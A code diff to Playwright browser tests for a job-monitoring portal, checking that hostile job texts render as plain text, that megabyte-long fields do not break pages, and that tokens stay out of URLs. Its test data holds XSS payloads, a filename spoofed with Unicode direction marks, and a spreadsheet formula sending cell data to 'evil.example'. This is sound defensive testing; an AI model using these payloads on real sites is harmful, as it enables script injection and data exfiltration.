@@ -6,12 +6,12 @@ import time
 from hashlib import sha256
 
 from msgspec.structs import replace
-from playwright.async_api import expect
+from playwright.async_api import Browser, expect
 
 from ccgateway.simulator.job import Tag
-from surfaces.portal.browsing import csv_of, needs_chromium, portal, saved, site, view
+from surfaces.portal.browsing import csv_of, in_browser, portal, saved, site, view
 
-pytestmark = needs_chromium
+pytestmark = in_browser
 
 SCRIPT = '<img src=x onerror="alert(1)"><script>alert(2)</script><svg onload=alert(3)>'
 TURNED = "a\u202egnp.exe\u2066\u0000\u0007\u200b"
@@ -19,7 +19,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 HUGE = "<b>" + "A" * (1 << 20)
 
 
-async def test_hostile_texts_are_shown_as_text_on_every_page() -> None:
+async def test_hostile_texts_are_shown_as_text_on_every_page(browser: Browser) -> None:
     aurora = site("aurora", jobs=40)
     known = aurora.backend.jobs.get(40)
     assert known is not None
@@ -31,7 +31,7 @@ async def test_hostile_texts_are_shown_as_text_on_every_page() -> None:
         tags=(Tag(1, SCRIPT, TURNED), Tag(2, "javascript:alert(5)", FORMULA)),
     )  # fmt: skip
     aurora.backend.jobs.add(hostile)
-    async with portal(aurora) as front, view(front.url) as shown:
+    async with portal(aurora) as front, view(browser, front.url) as shown:
         page = await shown.open("/jobs")
         row = page.locator('tr[data-id="aurora:4711"]')
         await expect(row).to_contain_text('<img src=x onerror="alert(1)">')
@@ -52,11 +52,36 @@ async def test_hostile_texts_are_shown_as_text_on_every_page() -> None:
         assert not await page.locator("main img, main script").count()
 
 
-async def test_a_token_is_kept_for_the_tab_only_and_leaves_no_trace_in_an_address() -> None:
-    keys = {"script": {"hash": f"sha256:{sha256(b'another').hexdigest()}", "subject": "script", "roles": ["admin"]}}
-    async with portal(site("aurora", jobs=30), api_keys=keys) as front, view(front.url) as shown:
+async def test_texts_of_a_megabyte_stop_no_page(browser: Browser) -> None:
+    aurora = site("aurora", jobs=40)
+    known = aurora.backend.jobs.get(40)
+    assert known is not None
+    aurora.backend.jobs.add(
+        replace(
+            known,
+            id=4712, job_id=4712, user=HUGE, project=HUGE, start_time=int(time.time()) - 5, state="completed", duration=3,
+            meta_data={"jobName": HUGE, "jobScript": HUGE, HUGE: HUGE}, tags=(Tag(1, HUGE, HUGE),),
+        )
+    )  # fmt: skip
+    async with portal(aurora) as front, view(browser, front.url) as shown:
         page = await shown.open("/jobs")
-        await page.get_by_role("button", name="Use a token").click()
+        row = page.locator('tr[data-id="aurora:4712"]')
+        await expect(row).to_contain_text("more characters")
+        assert len(await row.text_content() or "") < 2000
+        assert (await row.bounding_box() or {"height": 9999})["height"] < 400
+        await row.locator(".job a").click()
+        await expect(page.locator("#statistics")).to_be_visible()
+        assert len(await page.locator("main").text_content() or "") < 200_000
+        await shown.open("/usage?by=USER&from=2020-01-01T00:00:00&to=2099-01-01T00:00:00")
+        await expect(page.locator("table.usage")).to_contain_text("more characters")
+        assert await page.evaluate("document.documentElement.scrollWidth") <= 1280
+
+
+async def test_a_token_is_kept_for_the_tab_only_and_leaves_no_trace_in_an_address(browser: Browser) -> None:
+    keys = {"script": {"hash": f"sha256:{sha256(b'another').hexdigest()}", "subject": "script", "roles": ["admin"]}}
+    async with portal(site("aurora", jobs=30), api_keys=keys) as front, view(browser, front.url) as shown:
+        page = await shown.open("/jobs")
+        await page.locator("#session").get_by_role("button", name="Use a token").click()
         await page.get_by_label("Token", exact=True).fill("s3cret-token")
         asked = page.expect_request(lambda request: request.headers.get("authorization") == "Bearer s3cret-token")
         async with asked:
